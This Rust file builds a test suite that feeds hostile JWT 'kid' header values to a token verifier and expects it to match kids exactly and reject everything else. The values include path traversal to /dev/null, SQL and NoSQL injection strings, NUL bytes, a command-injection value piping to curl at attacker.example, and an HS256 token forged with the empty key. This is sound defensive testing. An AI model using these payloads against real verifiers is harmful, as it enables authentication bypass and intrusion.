//! Suite `attack-kid-injection` (`fixtures/attacks/kid-injection.json`): Hostile kid values (path
//! traversal, SQL, very long, NUL, wrong type) on tokens signed by the provider's real keys: kid
//! is matched exactly against the provisioned keys, nothing else.

use serde_json::{Value, json};

use super::{FAMILIES, good, lower, op_keyset};
use crate::common::{CLIENT, NOW, OP, Suite, case, id_claims, id_defaults, raw_token, text, token};
use crate::keys::Keys;
use host_harness::jose::b64;

pub fn suite(keys: &Keys) -> Suite {
    let mut s = Suite::new(
        "attacks/kid-injection.json",
        "attack-kid-injection",
        "Hostile kid values (path traversal, SQL, very long, NUL, wrong type) on tokens signed by \
         the provider's real keys: kid is matched exactly against the provisioned keys, nothing else",
        id_defaults(),
    );
    op_keyset(&mut s, keys);
    let long_kid = format!("{}{}", "A".repeat(4990), "rsa2048-a");
    s.keyset(
        "odd-kids",
        vec![
            keys.public_with("p256-a", json!({ "kid": "../keys/p256-a' OR 1=1 --" })),
            keys.public_with("hs-32", json!({ "kid": "x".repeat(129) })),
        ],
    );
    let claims = id_claims();
    let source = "RFC 7515 s4.1.4; RFC 8725 s3.10; conformance notes s4.5";
    for (alg, kid) in FAMILIES {
        let key = keys.private(kid);
        let hostile: Vec<(&str, String, &str)> = vec![
            (
                "path-traversal",
                "../../../../../../dev/null".into(),
                "a path traversal",
            ),
            (
                "path-traversal-to-kid",
                format!("../{kid}"),
                "../ and the real kid",
            ),
            (
                "path-normalizing",
                format!("{kid}/../{kid}"),
                "a path that normalizes to the real kid",
            ),
            ("sql", "' OR '1'='1".into(), "an SQL injection"),
            (
                "sql-after-kid",
                format!("{kid}' --"),
                "the real kid followed by an SQL comment",
            ),
            (
                "nul-suffix",
                format!("{kid}\u{0}"),
                "the real kid followed by NUL (\\u0000)",
            ),
            (
                "nul-inside",
                format!("{kid}\u{0}evil"),
                "the real kid, NUL, more text",
            ),
            (
                "case",
                kid.to_ascii_uppercase(),
                "the real kid in upper case",
            ),
            (
                "leading-space",
                format!(" {kid}"),
                "the real kid with a leading space",
            ),
            ("empty", String::new(), "the empty string"),
            (
                "long",
                long_kid.replace("rsa2048-a", kid),
                "5000 characters ending in the real kid",
            ),
            (
                "command",
                format!("{kid}|curl https://attacker.example"),
                "a shell command",
            ),
        ];
        for (label, hostile_kid, what) in hostile {
            s.add(
                case(
                    format!("{}-kid-{label}", lower(alg)),
                    format!("{alg} token signed by the provider's real key, header kid is {what}: no such key"),
                    source,
                )
                .token(token(key, alg, json!({ "kid": hostile_kid }), &claims))
                .keyset("op")
                .expect("key_not_found"),
            );
        }
        // Escapes decode to the real kid: an exact match after JSON unescaping.
        let escaped = format!(
            "{{\"alg\":\"{alg}\",\"kid\":\"\\u{:04x}{}\"}}",
            u32::from(kid.as_bytes()[0]),
            &kid[1..]
        );
        s.add(
            case(format!("{}-kid-escaped-equal", lower(alg)), format!("{alg} token whose header kid is the real kid with its first letter written as a \\u escape: equal after unescaping"), "RFC 8259 s7; RFC 7515 s4.1.4")
                .token(raw_token(escaped.as_bytes(), text(&claims).as_bytes(), key, alg))
                .keyset("op")
                .valid()
                .claims(good("alice")),
        );
        for (label, value) in [
            ("number", json!(7)),
            ("null", Value::Null),
            ("array", json!([kid])),
            ("object", json!({ "$ne": null })),
            ("bool", json!(true)),
        ] {
            let header = format!("{{\"alg\":\"{alg}\",\"kid\":{}}}", text(&value));
            s.add(
                case(
                    format!("{}-kid-{label}", lower(alg)),
                    format!("{alg} token whose header kid is a JSON {label}: kid must be a string"),
                    "RFC 7515 s4.1.4",
                )
                .token(raw_token(
                    header.as_bytes(),
                    text(&claims).as_bytes(),
                    key,
                    alg,
                ))
                .keyset("op")
                .expect("malformed_header"),
            );
        }
    }
    // HMAC keyed by whatever a kid "points to": /dev/null gives the empty key.
    let devnull = {
        let header = br#"{"alg":"HS256","kid":"../../../../../../dev/null"}"#;
        let input = format!("{}.{}", b64(header), b64(text(&claims).as_bytes()));
        use hmac::{KeyInit as _, Mac as _};
        let mut mac = hmac::Hmac::<sha2::Sha256>::new_from_slice(b"").expect("hmac");
        mac.update(input.as_bytes());
        format!("{input}.{}", b64(&mac.finalize().into_bytes()))
    };
    s.add(
        case(
            "hs256-kid-dev-null-empty-key",
            "HS256 token MACed with the empty key, kid pointing at /dev/null",
            "CVE-2017-11424 (kid injection write-ups); RFC 8725 s3.10",
        )
        .token(devnull)
        .keyset("op")
        .expect("key_not_found"),
    );
    s.add(
        case("es256-kid-odd-but-exact", "ES256 token whose kid is full of path and SQL characters and exactly equals a provisioned key's kid: exact match is all that counts", source)
            .token(token(keys.private("p256-a"), "ES256", json!({ "kid": "../keys/p256-a' OR 1=1 --" }), &claims))
            .keyset("odd-kids")
            .valid()
            .claims(good("alice")),
    );
    s.add(
        case("hs256-kid-longer-than-key-store", "HS256 token naming a 129-character kid: the JWKS key with that kid is too large to store and was skipped", "RFC 7517 s4.5")
            .token(token(keys.private("hs-32"), "HS256", json!({ "kid": "x".repeat(129) }), &claims))
            .keyset("odd-kids")
            .expect("key_not_found"),
    );
    let _ = (CLIENT, OP, NOW);
    s
}
